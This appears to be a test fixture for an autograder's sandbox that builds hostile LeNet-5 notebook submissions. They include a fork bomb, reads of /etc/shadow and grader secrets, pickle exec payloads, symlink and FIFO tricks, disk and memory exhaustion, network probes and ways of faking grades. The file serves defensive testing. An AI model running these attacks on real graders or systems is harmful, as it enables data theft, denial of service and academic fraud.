"""A hostile cohort for the LeNet-5 assignment: each submission is the released notebook, filled in
(or not) and then turned against the grader. Used by test_adversarial.py; every notebook prints
what its attack achieved as one line `ATTACK <json>`, so the test can read the outcome from the
executed notebook the grader kept.

The attacks know the absolute paths of the course (an attacker can find them from the working
folder it is given), and the test passes them in `Targets`.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import socket
from dataclasses import asdict, dataclass, replace as dc_replace
from pathlib import Path

import nbformat
import psutil

from autograder.build import build_assignment
from autograder.datasets.hidden import course_secret
from autograder.demo import solved_release
from autograder.grade import grade_assignment
from autograder.grading.reference_cells import write_reference_cells
from autograder.grading.timing import machine_key, store_reference_seconds
from autograder.release import release_assignment

REPO = Path(__file__).resolve().parents[1]

ASSIGNMENT = "lenet5_mnist"
HONEST = "aa_honest"          # first in the batch: graded while the others attack
VICTIM = "not_json"           # the other student whose submission the readers try to open
EPOCHS_LINE = 'EPOCHS = {"tiny": 20, "full": 12}[profile]'


@dataclass(frozen=True)
class Targets:
    secret: str            # .autograder/secret_seed: seeds the hidden split (evaluator only)
    gradebook: str         # gradebook.db
    hidden_labels: str     # a file under the hidden data root
    victim: str            # another student's submission
    source_notebook: str   # assignments/<a>/<a>.ipynb: the hidden tests
    reference: str         # reference/<a>.py in the repository: the solution
    repo_rubric: str       # rubrics/<a>.yaml: a file of the course to overwrite
    release_notebook: str  # release/<a>/<a>.ipynb of the work folder
    outside: str           # a host folder: a file appears here only if code ran outside the sandbox
    forged_notebook: str   # a fake "executed notebook" with full marks, on the host
    port: int              # a TCP server on the host's loopback


VICTIM_MARKER = "VICTIM-SUBMISSION-7f3a"


# ---------------------------------------------------------------- notebook editing

def _gid(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if _gid(c) == grade_id)


def edit(nb, grade_id: str, old: str, new: str):
    nb = copy.deepcopy(nb)
    cell = nb.cells[_index(nb, grade_id)]
    if old not in cell.source:
        raise ValueError(f"{old!r} not in cell {grade_id}")
    cell.source = cell.source.replace(old, new)
    return nb


def replace(nb, grade_id: str, source: str):
    nb = copy.deepcopy(nb)
    nb.cells[_index(nb, grade_id)].source = source
    return nb


def insert(nb, before: str | None, source: str, tags: list[str] | None = None, after: str | None = None):
    """A new code cell (no nbgrader metadata: the student's own) before/after a grade id, or first."""
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(source)
    if tags:
        cell.metadata["tags"] = tags
    index = 0 if before is None and after is None else (_index(nb, before) if before else _index(nb, after) + 1)
    nb.cells.insert(index, cell)
    return nb


def delete(nb, *grade_ids: str):
    nb = copy.deepcopy(nb)
    nb.cells = [c for c in nb.cells if _gid(c) not in grade_ids]
    return nb


def epochs(nb, n: int):
    return edit(nb, "hyperparameters", EPOCHS_LINE, f"EPOCHS = {n}")


def report(source: str) -> str:
    """Code that prints the attack's outcome as one parseable line."""
    return f"import json as _json\nprint('ATTACK ' + _json.dumps({source}, default=str))"


# ---------------------------------------------------------------- attack code

def _read_files(t: Targets) -> str:
    paths = {"secret": t.secret, "gradebook": t.gradebook, "hidden_labels": t.hidden_labels, "victim": t.victim,
             "source_notebook": t.source_notebook, "reference": t.reference}
    return f"""
import os
here = os.getcwd()   # .../autograded/<me>/<a>/attempts/NNN/work: the course folder is 6 levels up
course = os.path.normpath(os.path.join(here, *[".."] * 6))
paths = {paths!r}
paths.update(secret_relative=os.path.join(course, ".autograder", "secret_seed"),
             gradebook_relative=os.path.join(course, "gradebook.db"),
             victim_relative=os.path.join(course, "submitted", {VICTIM!r}, {ASSIGNMENT!r}, {ASSIGNMENT + '.ipynb'!r}),
             shadow="/etc/shadow")
LEAKS = {{}}
for name, path in paths.items():
    try:
        with open(path, "rb") as fh:
            LEAKS[name] = fh.read(300).decode("latin-1")
    except Exception as exc:
        LEAKS[name] = f"DENIED {{type(exc).__name__}}"
for name, folder in [("listing_course", course), ("listing_students", os.path.join(course, "autograded")),
                     ("listing_outside", {t.outside!r}), ("listing_home", os.path.expanduser("~/.."))]:
    try:
        LEAKS[name] = sorted(os.listdir(folder))
    except Exception as exc:
        LEAKS[name] = f"DENIED {{type(exc).__name__}}"
"""


def _network(t: Targets) -> str:
    return f"""
import socket
NET = {{}}
for host, port in [("127.0.0.1", {t.port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        NET[f"{{host}}:{{port}}"] = "CONNECTED"
    except Exception as exc:
        NET[f"{{host}}:{{port}}"] = f"DENIED {{type(exc).__name__}}"
try:
    NET["dns"] = socket.gethostbyname("pypi.org")
except Exception as exc:
    NET["dns"] = f"DENIED {{type(exc).__name__}}"
try:
    import urllib.request
    urllib.request.urlopen("http://example.com", timeout=3)
    NET["http"] = "CONNECTED"
except Exception as exc:
    NET["http"] = f"DENIED {{type(exc).__name__}}"
"""


def _writes(t: Targets) -> str:
    import sys
    venv_site = next(p for p in sys.path if p.endswith("site-packages"))
    package = str(Path(__file__).resolve().parents[1] / "autograder" / "student.py")
    targets = {"repo_rubric": t.repo_rubric, "package": package, "sitecustomize": f"{venv_site}/sitecustomize.py",
               "release": t.release_notebook, "victim": t.victim, "outside": f"{t.outside}/planted.txt",
               "secret": t.secret, "host_tmp": "/tmp/planted-by-student.txt", "root_home": "/root/planted.txt"}
    return f"""
import os
targets = {targets!r}
here = os.getcwd()
course = os.path.normpath(os.path.join(here, *[".."] * 6))
targets["course_relative"] = os.path.join(course, "submitted", "planted.txt")
targets["parent_of_work"] = os.path.join(here, "..", "result.json")
WRITES = {{}}
for name, path in targets.items():
    try:
        with open(path, "a") as fh:
            fh.write("print('planted by a student')\\n")
        WRITES[name] = "WROTE"
    except Exception as exc:
        WRITES[name] = f"DENIED {{type(exc).__name__}}"
for name, action in [("chmod_package", lambda: os.chmod(targets["package"], 0o777)),
                     ("unlink_rubric", lambda: os.unlink(targets["repo_rubric"])),
                     ("mkdir_outside", lambda: os.mkdir({t.outside!r} + "/dir"))]:
    try:
        action()
        WRITES[name] = "DONE"
    except Exception as exc:
        WRITES[name] = f"DENIED {{type(exc).__name__}}"
"""


def _evaluator_payload(t: Targets, name: str) -> str:
    """Python that, if it ever runs in the evaluator (outside the sandbox), leaves a file in
    `outside` and makes the evaluator score the model as perfect."""
    return f"""
import pathlib, sys
pathlib.Path({t.outside!r}, {name!r}).write_text('code ran in the evaluator')
for _mod in [sys.modules.get("__main__"), sys.modules.get("autograder.grading.evaluate")]:
    if _mod is not None and hasattr(_mod, "_metrics"):
        _orig = _mod._metrics
        _mod._metrics = lambda labels, predictions, classes, _o=_orig: _o(labels, labels, classes)
"""


# An export_for_grading replacement that lets the notebook tamper with what the real one wrote.
WRAP_EXPORT = """
import autograder.student as _student
_real_export = _student.export_for_grading
def export_for_grading(*args, **kwargs):
    out = _real_export(*args, **kwargs)
    tamper(out)
    return out
_student.export_for_grading = export_for_grading
"""


def _rewrite_member(suffix: str, new_bytes_expr: str) -> str:
    return f"""
import zipfile, io
def rewrite_member(pt2, suffix, transform):
    with zipfile.ZipFile(pt2) as z:
        items = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(pt2, "w", zipfile.ZIP_STORED) as z:
        for name, data in items:
            z.writestr(name, transform(data) if name.endswith(suffix) else data)
def tamper(out):
    rewrite_member(out / "model.pt2", {suffix!r}, lambda data: {new_bytes_expr})
"""


def _pickle_bomb(t: Targets, name: str) -> str:
    return f"""
import pickle
PAYLOAD = {_evaluator_payload(t, name)!r}
class Bomb:
    def __reduce__(self):
        return (exec, (PAYLOAD,))
"""


def _inputs_bomb(t: Targets) -> str:
    """sample_inputs that load fine with weights_only=False: torch falls back to it when
    weights_only=True refuses, and runs the payload on the way."""
    return f"""
import torch, io
PAYLOAD = {_evaluator_payload(t, "pt2_pickled_inputs")!r}
class EmptyKwargs:
    def __reduce__(self):
        return (eval, ("exec(PAYLOAD_SRC) or dict()", {{"PAYLOAD_SRC": PAYLOAD}}))
def inputs_bomb(data):
    args, kwargs = torch.load(io.BytesIO(data), weights_only=True)
    buf = io.BytesIO()
    torch.save((args, EmptyKwargs()), buf)
    return buf.getvalue()
"""


def _from_file_model(t: Targets) -> str:
    return f"""
import torch
@torch.library.register_fake("aten::from_file")
def _fake_from_file(filename, shared=None, size=0, *, dtype=None, layout=None, device=None, pin_memory=None):
    return torch.empty(size, dtype=dtype or torch.float32)

class Snooper(torch.nn.Module):
    \"\"\"Reads a file of the grader each time it is called: its logits are the file's first bytes.\"\"\"
    def __init__(self, inner):
        super().__init__()
        self.inner = inner
    def forward(self, x):
        data = torch.from_file({t.hidden_labels!r}, shared=False, size=10, dtype=torch.uint8)
        leak = data.float() * 100.0                 # the file's first bytes, one per class
        return self.inner(x) * 0 + leak
"""


DAEMON = """
import os, sys, time, json, subprocess, textwrap
FORGER = textwrap.dedent('''
    import json, os, sys, time
    path = sys.argv[1]
    deadline = time.time() + 90
    while time.time() < deadline:
        try:
            nb = json.load(open(path))
            done = any("export" == c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
                       and c.get("metadata", {}).get("papermill", {}).get("status") == "completed" for c in nb["cells"])
            if done:
                for c in nb["cells"]:
                    if c.get("cell_type") == "code":
                        c["outputs"] = [o for o in c.get("outputs", []) if o.get("output_type") != "error"]
                        c.setdefault("metadata", {}).setdefault("papermill", {})["duration"] = 0.01
                        c["metadata"]["papermill"].update(status="completed", exception=False)
                tmp = path + ".tmp"
                with open(tmp, "w") as fh:
                    json.dump(nb, fh)
                os.replace(tmp, path)
        except Exception:
            pass
        time.sleep(0.002)
''')
daemon = subprocess.Popen([sys.executable, "-c", FORGER, os.path.abspath("lenet5_mnist.ipynb")],
                          start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def _deep_chain(t: Targets) -> str:
    """Round two, class 1: folders nested beyond PATH_MAX with links at the bottom, and the
    executed notebook made a link to the gradebook, then the executor killed so it cannot
    rewrite it: a walk joining path strings raised before the links were removed."""
    return f"""
import os, signal
os.symlink({t.gradebook!r}, "lenet5_mnist.ipynb.link")
os.replace("lenet5_mnist.ipynb.link", "lenet5_mnist.ipynb")
home = os.open(".", os.O_RDONLY)
for _ in range(40):                      # 40 x 201 characters: twice PATH_MAX
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
os.symlink({t.gradebook!r}, "gradebook.db")
os.symlink("/", "root")
os.mkfifo("fifo")
os.fchdir(home)
os.symlink({t.secret!r}, "secret_seed")
os.mkdir("locked")
os.symlink({t.hidden_labels!r}, "locked/labels")
os.chmod("locked", 0)
os.kill(os.getppid(), signal.SIGKILL)    # the executor: no final save replaces the link
"""


DISK = """
import ctypes, os
DISK = {}
fd = os.open("reserve", os.O_CREAT | os.O_WRONLY, 0o600)
libc = ctypes.CDLL(None, use_errno=True)
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
ok = libc.fallocate(fd, 1, 0, 20 << 30) == 0      # FALLOC_FL_KEEP_SIZE: blocks beyond the size
DISK["fallocate"] = "DONE" if ok else "DENIED " + os.strerror(ctypes.get_errno())
DISK["allocated"] = os.fstat(fd).st_blocks * 512
os.close(fd)
for name in ("cmdline", "environ"):
    try:
        DISK[name] = open(f"/proc/1/{name}", "rb").read().decode("latin-1")
    except Exception as exc:
        DISK[name] = f"DENIED {type(exc).__name__}"
"""

FILL_DISK = """
import os
chunk = b"x" * (8 << 20)
for i in range(16):                       # 16 files x 256 MiB (each at the file-size limit): 4 GiB
    try:
        with open(f"fill{i}", "wb") as fh:
            for _ in range(32):
                fh.write(chunk)
    except OSError:
        pass
"""


def _thread_training() -> str:
    """Round two, class 2: training runs in a thread started by the (timed, instant) train cell
    and is waited on by the instructor's test cell, which the old timing did not count."""
    return """
import threading, time as _time
class _Later(dict):
    def __init__(self, thread, box):
        super().__init__()
        self._thread, self._box = thread, box
    def _wait(self):
        self._thread.join()
        self.update(self._box)
    def __getitem__(self, key):
        if not self.__dict__.get("_asked"):   # the train cell's own print: answer without waiting
            self._asked = True
            return [0.0]
        self._wait()
        return super().__getitem__(key)
    def __len__(self):
        self._wait()
        return super().__len__()
    def __iter__(self):
        self._wait()
        return super().__iter__()
    def keys(self):
        self._wait()
        return super().keys()
    def items(self):
        self._wait()
        return super().items()
_train_now = train_model
def train_model(model, train, val, epochs, batch_size, lr, device):
    box = {}
    def work():
        _time.sleep(8)                    # 'the real training', somewhere the grader does not time
        box.update(_train_now(model, train, val, epochs, batch_size, lr, device))
    thread = threading.Thread(target=work)
    thread.start()
    return _Later(thread, box)
"""


def _memorises() -> str:
    """Round two, class 6: a model of allowed operators only that returns the hidden split's
    labels, memorised in file order, for whatever batch it gets: right only when the evaluator
    feeds the split in file order."""
    return """
import torch.nn.functional as _F
from sklearn.datasets import load_digits as _load_digits
from autograder.datasets.mnist import _digits_partition
_labels = torch.as_tensor(_load_digits().target[_digits_partition()["test"]]).long()
_table = torch.zeros(65536, 10)
_table[:len(_labels)] = _F.one_hot(_labels, 10).float() * 100
class Memo(nn.Module):
    def __init__(self, inner, table):
        super().__init__()
        self.inner = inner
        self.register_buffer("table", table)
    def forward(self, x):
        return self.inner(x) * 0 + self.table[: x.shape[0]]
model = Memo(model, _table)
"""


MARKUP = '[/x] [bold red]all your points[/] [link=file:///etc/shadow]here[/link] [/]'
LOOKALIKE = "\u0430a_honest"   # Cyrillic a, then "a_honest": looks like aa_honest


def deep_json(levels: int) -> str:
    return "[" * levels + "]" * levels


def nested_notebook(source_nb, levels: int) -> str:
    """A valid notebook but for one metadata value nested `levels` deep (under the recursion limit)."""
    data = json.loads(nbformat.writes(source_nb))
    data["metadata"]["deep"] = "DEEP-PLACEHOLDER"
    return json.dumps(data).replace('"DEEP-PLACEHOLDER"', deep_json(levels))


# ---------------------------------------------------------------- the cohort

def forged_executed_notebook(source_nb) -> nbformat.NotebookNode:
    """What a student would like the grader to read: every cell ran, nothing raised, training took 10 ms."""
    nb = copy.deepcopy(source_nb)
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code":
            cell.execution_count = i + 1
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="forged\n")]
            cell.metadata["papermill"] = {"status": "completed", "duration": 0.01, "exception": False}
    return nb


def cohort(source_nb, release_nb, t: Targets) -> dict[str, object]:
    """student id -> notebook, or raw text for a file that is not a notebook."""
    good = solved_release(source_nb, release_nb)
    quick = epochs(good, 4)                       # a weaker but honest model (20 steps), in about a second
    wrong = edit(quick, "lenet5", "nn.Conv2d(6, 16, kernel_size=5)", "nn.Conv2d(6, 16, kernel_size=5, bias=False)")
    stop = copy.deepcopy(release_nb)              # attacks that end the run: the rest is not needed
    arch = replace(stop, "lenet5", next(c.source for c in good.cells if _gid(c) == "lenet5"))
    arch_wrong = edit(arch, "lenet5", "nn.Conv2d(6, 16, kernel_size=5)", "nn.Conv2d(6, 16, kernel_size=5, bias=False)")

    students: dict[str, object] = {
        HONEST: good,
        VICTIM: f"my homework {VICTIM_MARKER}: I wrote it in a text editor",

        # ---- the sandbox: files, network, processes, memory, time, output
        "reads_secrets": insert(stop, None, _read_files(t) + report("LEAKS")),
        "network": insert(stop, None, _network(t) + report("NET")),
        "fork_bomb": insert(stop, None, "import subprocess, time\n"
                                        "subprocess.Popen(['bash', '-c', ':(){ :|:& };:'])\n"
                                        "time.sleep(60)"),
        "memory_hog": insert(stop, None, "import torch\nhog = []\nwhile True:\n"
                                         "    hog.append(torch.ones(2**26))  # 256 MiB at a time, touched"),
        "writes_outside": insert(stop, None, _writes(t) + report("WRITES")),
        "huge_output": insert(insert(stop, None, "import os\n"
                                     "for _ in range(100):\n    print('x' * 1_000_000)  # 100 MB into the notebook\n"
                                     "for _ in range(100):\n    os.write(1, b'y' * 1_000_000)  # and 100 MB to the raw stdout\n"),
                              None, "import sys\nsys.stderr.write('z' * 20_000_000)\n" + report("{'ran': True}"),
                              after="imports"),
        "kills_parent": insert(stop, None, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                                           "os.kill(-1, signal.SIGKILL)"),
        "exec_link": insert(stop, None, f"""
import os
# the executed notebook the grader reads becomes a link to a forged one with full marks
os.symlink({t.forged_notebook!r}, "lenet5_mnist.ipynb.link")
os.replace("lenet5_mnist.ipynb.link", "lenet5_mnist.ipynb")
os.symlink({t.forged_notebook!r}, "artifacts")
"""),

        # ---- the notebook: restored cells, parameters, kernel, exit, tracebacks, stderr
        # (only the network is written: these attacks are about the test cells)
        "edits_tests": replace(delete(arch_wrong, "test_training", "export", "setup"),
                               "test_lenet5_architecture", "pass  # this test is in my way"),
        "param_override": insert(insert(stop, None, "profile = 'full'\nartifact_dir = 'mine'\nseed = 1",
                                        tags=["parameters"]),
                                 "lenet5", report("{'artifact_dir': artifact_dir, 'profile': profile, 'seed': seed}") +
                                 "\nartifact_dir = '/tmp/not-where-the-grader-looks'\nseed = 1234"),
        "wrong_kernel": insert(stop, None, report("{'ran': True}")),   # kernelspec set below
        "sys_exit": insert(edit(arch_wrong, "lenet5", "super().__init__()",
                                "super().__init__()\n        import sys\n"
                                "        if not globals().get('_exited'):\n"
                                "            globals()['_exited'] = True\n"
                                "            sys.exit(0)  # leave the test early"),
                           None, "import sys\nsys.exit(0)  # and leave the notebook in the middle",
                           after="test_lenet5_architecture"),
        "no_tracebacks": insert(arch_wrong, None, "ip = get_ipython()\n"
                                                  "ip.showtraceback = lambda *a, **k: None\n"
                                                  "ip._showtraceback = lambda *a, **k: None\n"
                                                  "ip.showsyntaxerror = lambda *a, **k: None\n"
                                                  "import sys\nsys.excepthook = lambda *a: None", after="imports"),
        "stderr_noise": edit(arch, "lenet5", "x = self.pool(torch.tanh(self.conv1(x)))",
                             "import warnings, sys\n        warnings.simplefilter('always')\n"
                             "        warnings.warn('old-fashioned tanh', UserWarning)\n"
                             "        warnings.warn('this API is deprecated', DeprecationWarning)\n"
                             "        sys.stderr.write('  50%|#####     | 1/2 [00:00<00:00, 20.0it/s]\\n')\n"
                             "        x = self.pool(torch.tanh(self.conv1(x)))"),

        # ---- claims: self-reports, timing, monkeypatching in the kernel
        "fake_accuracy": edit(quick, "report", 'reported = {"val_accuracy": history["val_accuracy"][-1], ',
                              'reported = {"val_accuracy": 0.999, '),
        "fake_timing": insert(edit(edit(quick, "hyperparameters", "LR = 3e-3",
                                        "LR = 3e-3\nimport time as _t\n_t.sleep(8)  # 'data augmentation'\n"
                                        "_model = LeNet5()\n"
                                        "_history = train_model(_model, train_split, val_split, EPOCHS, BATCH_SIZE, LR, device)"),
                                   "train_model", "    model = model.to(device, memory_format=torch.channels_last)\n",
                                   "    if '_history' in globals():  # trained already: hand the result over\n"
                                   "        model.load_state_dict(_model.state_dict())\n"
                                   "        return _history\n"
                                   "    model = model.to(device, memory_format=torch.channels_last)\n"),
                              "train", "pass  # the grader times the cell tagged 'train': this one", tags=["train"]),
        "monkeypatch": insert(edit(good, "train_model", "    model = model.to(device, memory_format=torch.channels_last)\n",
                                   "    history = {'train_loss': [2.0 - i / epochs for i in range(epochs)],\n"
                                   "               'train_accuracy': [1.0] * epochs,\n"
                                   "               'val_accuracy': [accuracy(model, val.images, val.labels)] * epochs}\n"
                                   "    return history  # no training at all\n"
                                   "    model = model.to(device, memory_format=torch.channels_last)\n"),
                              "train", "import torch, autograder.student\n"
                                       "_labels = val_split.labels\n"
                                       "_argmax = torch.Tensor.argmax\n"
                                       "def _cheat(self, *a, **k):\n"
                                       "    out = _argmax(self, *a, **k)\n"
                                       "    return _labels.clone() if out.shape == _labels.shape else out\n"
                                       "torch.Tensor.argmax = _cheat  # every accuracy this kernel computes is 100%\n"
                                       "_real = autograder.student.export_for_grading\n"
                                       "def export_for_grading(model, example, artifact_dir, **kw):\n"
                                       "    kw['reported'] = {'val_accuracy': 1.0, 'test_accuracy': 1.0}\n"
                                       "    kw['history'] = {'val_accuracy': [1.0] * 20}\n"
                                       "    return _real(model, example, artifact_dir, **kw)\n"
                                       "autograder.student.export_for_grading = export_for_grading\n"),

        # ---- the export: pickles, crafted archives, a model that reads files, links
        "pickles": insert(quick, "export", _pickle_bomb(t, "raw_pickle") + WRAP_EXPORT.replace(
            "    tamper(out)\n", "    (out / 'model.pt2').write_bytes(pickle.dumps(Bomb()))\n"
                               "    (out / 'tensors.pt').write_bytes(pickle.dumps(Bomb()))\n")),
        "pt2_pickled_inputs": insert(quick, "export", _inputs_bomb(t) + _rewrite_member("sample_inputs/model.pt", "inputs_bomb(data)")
                                     + WRAP_EXPORT),
        "pt2_reads_files": insert(quick, "export", _from_file_model(t) + "model = Snooper(model)\n"),
        "links_and_forgery": insert(wrong, "export", DAEMON + f"""
import os, pathlib
def tamper(out):
    links = {{"history.json": {t.secret!r}, "reported.json": {t.source_notebook!r},
             "figures/training_curve.png": {t.gradebook!r}, "extra.json": {t.hidden_labels!r}}}
    for name, target in links.items():
        (out / name).unlink(missing_ok=True)
        os.symlink(target, out / name)
    os.mkfifo(out / "tensors.pt")   # a reader would wait forever
    os.symlink(out, out / "loop")
""" + WRAP_EXPORT),

        # ---- round two: classes a second, private hostile suite found
        "deep_chain": insert(stop, None, _deep_chain(t)),
        "fills_disk": insert(insert(stop, None, DISK + report("DISK")), None, FILL_DISK, after="imports"),
        "thread_training": insert(quick, None, _thread_training(), after="train_model"),
        "memorises": insert(quick, "export", _memorises()),
        "markup_message": insert(stop, None, f"raise ValueError({MARKUP!r})"),
        "deep_json": deep_json(100_000),
        "nested_json": nested_notebook(release_nb, 900),
        LOOKALIKE: good,
    }
    # only the honest student answers the reflection (copies of one answer would be flagged as such)
    blank = next(c.source for c in release_nb.cells if _gid(c) == "reflection")
    for student, nb in students.items():
        if student != HONEST and not isinstance(nb, str):
            students[student] = replace(nb, "reflection", blank)
    kernel = students["wrong_kernel"]
    kernel.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    kernel.metadata["language_info"] = {"name": "R"}
    students["wrong_kernel"] = kernel
    return students


def write(course, students: dict) -> None:
    for student, nb in students.items():
        path = course.submitted_dir / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(nb, str):
            path.write_text(nb)
        else:
            nbformat.write(nb, path)


def attack_report(executed_nb) -> dict:
    """The `ATTACK {...}` line a notebook printed, parsed (empty if it printed none)."""
    for cell in executed_nb.cells:
        for out in cell.get("outputs", []):
            text = "".join(out.get("text", "")) if out.get("output_type") == "stream" else ""
            for line in text.splitlines():
                if line.startswith("ATTACK "):
                    return json.loads(line[len("ATTACK "):])
    return {}


def targets_dict(t: Targets) -> dict:
    return asdict(t)


# ---------------------------------------------------------------- the graded batch

LIMITS = {"notebook_timeout_s": 90, "cell_timeout_s": 30, "memory_gb": 2}   # the longest honest cell: ~11 s
REFERENCE_S = 10.0       # cached reference training time: the batch does not re-measure it
HIDDEN_LABELS = b"0102030904" + bytes(range(10)) * 10   # what a snooping model would read


def hashes(*roots: Path) -> dict[str, str]:
    """Every file under the roots (bytecode caches aside: the host's own imports write them)."""
    found = {}
    for root in roots:
        for path in sorted(Path(root).rglob("*")) if Path(root).is_dir() else [Path(root)]:
            if path.is_file() and "__pycache__" not in path.parts:
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


REPO_FOLDERS = [REPO / "reference", REPO / "rubrics", REPO / "assignments", REPO / "release", REPO / "autograder"]


def work_folders(work) -> list[Path]:
    return [work.source_dir, work.release_dir, work.submitted_dir]


PLANT = "planted by a student"


def leftovers(root: Path) -> list[str]:
    """Processes still running in the batch's folders (sandboxed notebooks, kernels, daemons):
    other work on the machine runs sandboxes too, so the uid alone does not tell."""
    found = []
    for proc in psutil.process_iter(["pid", "cmdline", "cwd"]):
        text = " ".join(proc.info["cmdline"] or []) + " " + (proc.info["cwd"] or "")
        if str(root) in text and proc.info["pid"] != os.getpid():
            found.append(f"{proc.info['pid']}: {text[:200]}")
    return found


def prepare_cohort(course, root: Path) -> dict:
    """Build and release LeNet-5 in `root` with short limits, a planted hidden split and a cached
    reference time, and write the cohort. Apart from grading because nbgrader's release changes the
    process's working folder while it runs: do it before grading starts in another thread."""
    root.chmod(0o755)
    outside = root / "outside"       # only code running outside the sandbox could write here
    outside.mkdir()
    hidden = root / "hidden"
    (hidden / "MNIST" / "raw").mkdir(parents=True)
    (hidden / "MNIST" / "raw" / "t10k-labels-idx1-ubyte").write_bytes(HIDDEN_LABELS)
    tiny = dc_replace(course.profiles["tiny"], **LIMITS)
    work = course.with_work(root / "course", profiles={**course.profiles, "tiny": tiny}, hidden_data_root=hidden)
    build_assignment(work, ASSIGNMENT)
    release_assignment(work, ASSIGNMENT)
    secret = course_secret(work.cache_dir)
    store_reference_seconds(work.cache_dir, ASSIGNMENT, "tiny", machine_key(), REFERENCE_S)
    source_nb = nbformat.read(work.source_notebook(ASSIGNMENT), as_version=4)
    # the reference's instructor cells: generous for imports and export, tests take milliseconds
    write_reference_cells(work.cache_dir, ASSIGNMENT, "tiny", {
        c.metadata["nbgrader"]["grade_id"]: 0.2 if c.metadata["nbgrader"]["grade_id"].startswith("test_") else 10.0
        for c in source_nb.cells if c.cell_type == "code" and "grade_id" in c.metadata.get("nbgrader", {})})
    release_nb = nbformat.read(work.release_notebook(ASSIGNMENT), as_version=4)
    forged = outside / "forged.ipynb"
    nbformat.write(forged_executed_notebook(source_nb), forged)

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.setblocking(False)
    targets = Targets(
        secret=str(work.cache_dir / "secret_seed"), gradebook=work.db_url.removeprefix("sqlite:///"),
        hidden_labels=str(hidden / "MNIST" / "raw" / "t10k-labels-idx1-ubyte"),
        victim=str(work.submitted_dir / VICTIM / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
        source_notebook=str(work.source_notebook(ASSIGNMENT)),
        reference=str(REPO / "reference" / f"{ASSIGNMENT}.py"), repo_rubric=str(REPO / "rubrics" / f"{ASSIGNMENT}.yaml"),
        release_notebook=str(work.release_notebook(ASSIGNMENT)), outside=str(outside), forged_notebook=str(forged),
        port=server.getsockname()[1])
    students = cohort(source_nb, release_nb, targets)
    write(work, students)
    return {"root": root, "work": work, "hidden": hidden, "outside": outside, "server": server, "secret": secret,
            "students": students, "targets": targets}


def grade_cohort(prepared: dict, client=None) -> dict:
    """Grade the prepared cohort in one sandboxed batch (on `client`'s cluster when given); return
    what the tests assert on: the outcome, hashes before and after, the processes left, what
    reached the host's server and folders."""
    root, work, hidden, outside, server = (prepared[k] for k in ("root", "work", "hidden", "outside", "server"))
    host_tmp_plant = Path("/tmp/planted-by-student.txt")
    planted_before = host_tmp_plant.exists()
    before, repo_before = hashes(*work_folders(work), work.cache_dir, hidden), hashes(*REPO_FOLDERS)
    outside_before = sorted(p.name for p in outside.iterdir())
    logged: list[str] = []

    outcome = grade_assignment(work, ASSIGNMENT, "tiny", sandboxed=True, workers=2, log=logged.append, client=client)
    left = leftovers(root)

    connections = 0
    while True:
        try:
            conn, _ = server.accept()
            conn.close()
            connections += 1
        except BlockingIOError:
            break
    server.close()
    return {
        "work": work, "outcome": outcome, "by": {r.student: r for r in outcome.results},
        "secret": str(prepared["secret"]), "students": prepared["students"], "targets": prepared["targets"],
        "before": before,
        "after": hashes(*work_folders(work), work.cache_dir, hidden), "logged": logged, "left": left,
        "repo_before": repo_before, "repo_after": hashes(*REPO_FOLDERS),
        "outside_before": outside_before, "outside_after": sorted(p.name for p in outside.iterdir()),
        "connections": connections, "host_tmp_planted": host_tmp_plant.exists() and not planted_before,
    }
